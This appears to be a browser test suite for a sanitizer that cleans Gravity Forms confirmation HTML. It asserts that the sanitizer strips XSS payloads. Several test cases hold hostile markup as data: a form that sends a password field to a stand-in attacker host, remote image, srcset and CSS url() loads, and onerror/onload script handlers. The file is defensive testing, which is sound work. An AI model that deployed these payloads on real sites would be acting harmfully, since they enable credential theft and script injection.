import DOMPurify from 'dompurify';
import { findDangerousMarkup } from '../../mocks/content/hostile-dom';
import { XSS_KIT, XSS_PAYLOADS } from '../../mocks/content/hostile';
import { defuseHandlers, sanitizeConfirmation } from './confirmation-html';

/** What a confirmation message leaves in the page that could run script or reach another origin. */
function dangerIn(html: string) {
  const container = document.createElement('div');
  container.innerHTML = sanitizeConfirmation(DOMPurify, html);
  return findDangerousMarkup({ origins: [window.location.origin], root: container });
}

describe('sanitizeConfirmation (Gravity Forms confirmation messages, in the browser)', () => {
  it.each(XSS_PAYLOADS.map((payload) => [payload.id, payload.html]))('leaves nothing of the %s payload that runs or loads', (_id, html) => {
    expect(dangerIn(html)).toEqual([]);
  });

  it('leaves nothing of all payloads together', () => {
    expect(dangerIn(XSS_KIT)).toEqual([]);
  });

  // Holes DOMPurify's default profile leaves open: each reaches another origin without script.
  it.each([
    [
      'a form posting elsewhere',
      `<form action="http://attacker.invalid/steal"><input name="password"><button>OK</button></form>`,
      /<form|<input|action=/,
    ],
    ['an image button loading from elsewhere', `<input type="image" src="http://attacker.invalid/x.png">`, /<input|attacker/],
    ['a srcset on another origin', `<img src="/a.png" srcset="http://attacker.invalid/x.png 1x" alt="">`, /srcset|attacker/],
    ['a style with url()', `<p style="background:url(http://attacker.invalid/x.png)">p</p>`, /style|attacker/],
    ['ids and classes that could clobber or restyle the page', `<p id="___gatsby" class="gform-1">p</p>`, /id=|class=/],
  ])('removes %s', (_what, html, left) => {
    expect(sanitizeConfirmation(DOMPurify, html)).not.toMatch(left);
  });

  it('keeps GF’s wrapper, paragraphs, emphasis and tel/mailto/http links', () => {
    const html =
      '<div id=\'gform_confirmation_wrapper_1\' class=\'gform_confirmation_wrapper \'><div class=\'gform_confirmation_message\'><p><strong>Bedankt!</strong> Bel <a href="tel:0301234567">030</a>, mail <a href="mailto:a@b.nl">ons</a> of lees <a href="https://example.nl/x" title="x">dit</a>.</p></div></div>';
    expect(sanitizeConfirmation(DOMPurify, html)).toBe(
      '<div><div><p><strong>Bedankt!</strong> Bel <a href="tel:0301234567">030</a>, mail <a href="mailto:a@b.nl">ons</a> of lees <a href="https://example.nl/x" title="x">dit</a>.</p></div></div>',
    );
  });
});

describe('defuseHandlers (no event handler attribute reaches the parser)', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', '<img src=x x-onerror=alert(1)>'],
    ['<svg/onload=alert(1)>', '<svg/x-onload=alert(1)>'],
    ['<img title=">" ONERROR = alert(1)>', '<img title=">" x-ONERROR = alert(1)>'],
    ['<div onclick>', '<div x-onclick>'],
    ['<style><img title="</style><img src=x onerror=1>">', '<style><img title="</style><img src=x x-onerror=1>">'],
  ])('%s', (html, defused) => expect(defuseHandlers(html)).toBe(defused));

  it('leaves text and the words of values alone', () => {
    for (const html of [
      'Je offerte is onderweg, wij zijn online.',
      '<a href="/contact/" title="Bel ons online">ons</a>',
      '<img alt=online src=x>',
    ])
      expect(defuseHandlers(html)).toBe(html);
  });
});
